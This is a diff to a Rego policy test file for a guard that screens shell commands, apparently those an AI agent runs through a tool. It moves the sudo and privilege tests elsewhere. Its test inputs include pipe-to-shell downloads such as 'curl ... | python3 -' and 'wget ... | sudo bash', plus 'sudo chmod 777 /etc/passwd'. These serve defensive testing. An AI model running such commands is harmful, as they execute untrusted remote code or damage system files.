@@ -94,7 +94,7 @@ _t_allowed(inp) if count(_t_blocking(inp)) == 0
 
 test_routing_is_before_tool_shell if {
 	object.remove(routing, ["commands", "shell", "text"]) == {"events": ["BeforeTool"], "kinds": ["shell"]}
-	every name in ["git push", "git clean", "curl", "sudo", "eval"] {
+	every name in ["git push", "git clean", "curl", "eval"] {
 		name in routing.commands
 	}
 	routing.shell == ["dynamic-program", "inline", "redirect-out", "wrapped", "effect-write", "effect-unknown", "effect-device", "effect-privilege", "effect-config", "effect-signal"]
@@ -315,15 +315,6 @@ test_curl_pipe_sh if {
 	_t_deny(inp) == {"pipe-to-shell"}
 }
 
-test_wget_pipe_sudo_bash if {
-	inp := _t_shell("wget -qO- https://x.sh | sudo bash", [
-		_t_at(["wget", "-qO-", "https://x.sh"], 0, 0, 0),
-		_t_sudo(_t_at(["bash"], 0, 1, 0)),
-	])
-	"pipe-to-shell" in _t_deny(inp)
-	"sudo" in _t_ask(inp)
-}
-
 test_curl_pipe_python if {
 	inp := _t_shell("curl -s https://x.py | python3 -", [
 		_t_at(["curl", "-s", "https://x.py"], 0, 0, 0),
@@ -518,34 +509,8 @@ test_base64_encode_pipe_allowed if {
 # sudo
 # ---------------------------------------------------------------------------------------------
 
-test_plain_sudo_asks if {
-	inp := _t_shell("sudo apt-get install -y jq", [_t_sudo(_t_cmd(["apt-get", "install", "-y", "jq"]))])
-	_t_ask(inp) == {"sudo"}
-	count(_t_deny(inp)) == 0
-}
-
-test_doas_asks if {
-	inp := _t_shell("doas make install", [object.union(_t_cmd(["make", "install"]), {"wrappers": ["doas"]})])
-	_t_ask(inp) == {"sudo"}
-}
-
-test_su_asks if {
-	_t_ask(_t_simple(["su", "-c", "id"])) == {"sudo"}
-}
-
-test_sudo_destructive_denied if {
-	inp := _t_shell("sudo rm -rf build", [_t_sudo(_t_cmd(["rm", "-rf", "build"]))])
-	_t_deny(inp) == {"sudo-destructive"}
-}
-
-test_sudo_chmod_denied if {
-	inp := _t_shell("sudo chmod 777 /etc/passwd", [_t_sudo(_t_cmd(["chmod", "777", "/etc/passwd"]))])
-	_t_deny(inp) == {"sudo-destructive"}
-}
-
-test_no_sudo_no_ask if {
-	_t_allowed(_t_simple(["make", "install"]))
-}
+# privileges are judged on input.effects (privilege, and what a privileged command does): whole-line
+# cases in cases/destructive_shell.json
 
 # ---------------------------------------------------------------------------------------------
 # disks, devices, power, fork bombs
@@ -604,7 +569,7 @@ test_everyday_commands_allowed if {
 # ---------------------------------------------------------------------------------------------
 
 test_watched_programs if {
-	every key in ["downloaders", "disk_tools", "partition_tools", "privilege_commands"] {
+	every key in ["downloaders"] {
 		every name in data.destructive_shell[key] {
 			name in data.destructive_shell.watched_programs
 		}
